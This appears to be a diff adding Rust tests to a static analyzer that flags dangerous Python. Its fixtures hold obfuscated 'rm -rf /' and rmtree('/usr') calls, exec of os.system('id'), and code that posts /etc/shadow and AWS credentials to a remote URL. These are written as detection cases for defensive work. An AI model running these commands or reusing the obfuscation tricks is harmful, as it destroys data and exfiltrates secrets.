@@ -55,3 +55,63 @@ fn no_suppression_comments() {
     fires("CRD202", "import os\nos.setuid(0)  # nosec\n");
     fires("CRD202", "import os\nos.setuid(0)  # noqa: S606\n");
 }
+
+#[test]
+fn strings_folded_as_python_computes_them() {
+    // translate/maketrans, int.to_bytes and reduce(getattr, ...) fold before the sink.
+    fires(
+        "CRD104",
+        "import os\nos.system('ez -es /'.translate(str.maketrans('ezs', 'rmf')))\n",
+    );
+    fires(
+        "CRD103",
+        "m = (0x6f73).to_bytes(2, 'big').decode()\nexec(m)\n",
+    );
+    fires(
+        "CRD104",
+        "import functools, shutil\nfunctools.reduce(getattr, ['rmtree'], shutil)('/usr')\n",
+    );
+    fires(
+        "CRD209",
+        "import ast\nexec(compile(ast.parse(\"__import__('os').system('id')\"), 'x', 'exec'))\n",
+    );
+}
+
+#[test]
+fn objects_that_take_in_secrets_hold_them() {
+    // A config parser reading a credential file, or a list given a secret, carries it.
+    fires(
+        "CRD109",
+        "import configparser, requests\nc = configparser.ConfigParser()\nc.read('/root/.aws/credentials')\nrequests.post('https://x', data=c['default']['k'])\n",
+    );
+    fires(
+        "CRD109",
+        "import requests\nparts = []\nparts.append(open('/etc/shadow').read())\nrequests.post('https://x', json=parts)\n",
+    );
+}
+
+#[test]
+fn dicts_with_known_keys_fold() {
+    // A value kept in a dict literal reaches its sink through d[k] and d.get(k).
+    fires(
+        "CRD104",
+        "import os\nd = {'c': 'rm -rf /'}\nos.system(d['c'])\n",
+    );
+    fires(
+        "CRD209",
+        "d = {1: \"__import__('os').system('id')\"}\neval(d.get(1))\n",
+    );
+    silent(
+        "CRD303",
+        "d = {'f': '2 * 3'}\nprint({k: eval(v) for k, v in d.items()})\n",
+    );
+}
+
+#[test]
+fn percent_formatting_with_a_mapping_folds() {
+    // `"%(flags)s %(dir)s" % {...}` takes each field from the dict.
+    fires(
+        "CRD104",
+        "import os\nos.system('rm %(f)s %(d)s' % {'f': '-rf', 'd': '/usr'})\n",
+    );
+}
